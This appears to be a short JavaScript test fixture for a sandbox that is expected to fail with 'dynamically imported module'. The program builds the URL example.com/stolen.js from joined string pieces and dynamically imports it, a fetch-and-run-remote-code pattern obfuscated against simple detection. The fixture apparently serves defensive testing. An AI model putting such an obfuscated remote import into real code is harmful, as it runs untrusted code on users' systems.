/*
 * outcome: failed
 * message: dynamically imported module
 */
/* program */
const from = ['https:', '', 'example.com', 'stolen.js'].join('/')
await import(from)
